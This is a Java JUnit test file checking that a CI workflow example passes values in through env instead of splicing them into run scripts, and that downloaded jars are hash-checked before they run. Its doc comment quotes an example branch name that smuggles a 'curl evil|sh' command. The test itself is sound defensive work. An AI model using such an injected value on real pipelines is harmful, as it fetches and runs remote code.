package io.capkit.gitops.examples;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.capkit.api.yaml.YamlDocuments;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * Issue 17, item 12 (CI example): in {@code examples/ci/render.yaml} no {@code ${{ }}} expression is spliced into a
 * {@code run:} script (a branch named {@code x";curl evil|sh;"} would run as a command); values come in through
 * {@code env:}. Every downloaded capkit jar is checked against a SHA-256 before it runs.
 */
class HostileTenantWorkflowTest {
  private static final Path ROOT = Path.of(System.getProperty("capkit.repo.root", ".."));

  private static List<JsonNode> steps() throws IOException {
    JsonNode wf = new ObjectMapper().valueToTree(YamlDocuments.loadOne("render.yaml",
        Files.readString(ROOT.resolve("examples/ci/render.yaml"))));
    List<JsonNode> steps = new ArrayList<>();
    wf.path("jobs").forEach(job -> job.path("steps").forEach(steps::add));
    return steps;
  }

  @Test
  void noExpressionIsSplicedIntoAScript() throws IOException {
    List<JsonNode> runs = steps().stream().filter(s -> s.has("run")).toList();
    assertTrue(runs.size() >= 6, "the workflow's scripts were read: " + runs.size());
    for (JsonNode step : runs) {
      assertFalse(step.path("run").asText().contains("${{"), step.path("name").asText() + ": " + step.path("run"));
    }
    assertTrue(steps().stream().anyMatch(s -> s.path("env").path("BASE_REF").asText().equals("${{ github.base_ref }}")),
        "the base branch comes in through env");
  }

  @Test
  void everyDownloadedJarIsCheckedBeforeItRuns() throws IOException {
    List<JsonNode> installs = steps().stream().filter(s -> s.path("run").asText().contains("curl")).toList();
    assertEquals(2, installs.size());
    for (JsonNode step : installs) {
      String run = step.path("run").asText();
      int download = run.indexOf("curl");
      int check = run.indexOf("sha256sum --check --strict");
      int use = run.indexOf("exec java -jar");
      assertTrue(download >= 0 && check > download && use > check, run);
      assertTrue(run.contains("--proto '=https'"), run);
      assertTrue(step.path("env").path("CAPKIT_JAR_SHA256").isTextual(), step.toString());
    }
  }
}
